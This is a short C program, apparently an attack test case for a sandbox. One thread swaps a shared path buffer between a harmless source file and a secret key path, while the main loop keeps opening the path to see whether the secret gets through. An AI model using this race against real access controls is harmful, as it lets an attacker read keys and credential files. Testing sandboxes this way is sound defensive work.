/* One thread exchanges the path in memory between a harmless file and the key. */
#include "attack.h"
#include <pthread.h>
static char path[4096];
static volatile int stop;
static char good[] = "src/main.c", *bad;
static void *swap(void *unused) {
    while (!stop) { strcpy(path, bad); strcpy(path, good); }
    return unused;
}
int main(int c, char **v) {
    pthread_t thread;
    int won = 0;
    bad = v[1];
    strcpy(path, good);
    pthread_create(&thread, NULL, swap, NULL);
    for (int i = 0; i < 3000 && !won; i++) {
        int fd = open(path, O_RDONLY);
        if (fd >= 0) won = has_secret(fd), close(fd);
    }
    stop = 1;
    finish(won);
}
